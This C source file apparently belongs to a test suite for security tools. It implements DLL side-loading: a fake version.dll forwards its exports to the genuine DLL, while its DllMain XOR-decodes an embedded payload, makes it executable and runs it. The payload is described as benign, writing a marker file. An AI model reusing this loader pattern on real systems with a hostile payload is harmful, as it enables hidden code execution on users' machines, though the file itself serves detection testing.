/*
 * version.c - generality suite: a DLL planted under a system DLL's name (benign, emulator-only;
 * see ../../lineage-common/common.h).
 *
 * Named version.dll and put beside a program that imports version.dll: Windows' search order
 * takes the program's folder first (version.dll is not a KnownDLL), so this DLL is loaded
 * instead of the system's. Its exports forward every call the program makes to the genuine DLL
 * (version.def: to a full path, to a renamed copy staged beside it, to an ordinal, to its own
 * name), so the program works as before. Its DllMain decodes the payload in its data (rolling
 * XOR) into RW memory, makes it PAGE_EXECUTE_READ and calls it; the payload
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_sideload.txt.
 */
#include "common.h"
#include "blobs.h"

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    static struct sc_ctx ctx;
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    unsigned char *mem;
    DWORD i, old;

    (void)inst;
    (void)reserved;
    if (reason != DLL_PROCESS_ATTACH || !marker_present())
        return TRUE;
    mem = (unsigned char *)VirtualAlloc(0, sizeof(payload), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        return TRUE;
    for (i = 0; i < sizeof(payload); i++)
        mem[i] = payload[i] ^ ((0x4b + i * 5) & 0xff);
    if (!VirtualProtect(mem, sizeof(payload), PAGE_EXECUTE_READ, &old))
        return TRUE;
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_sideload.txt", "side-loaded under a system DLL's name\n");
    ((entry_t)(void *)mem)(&ctx);
    return TRUE;
}
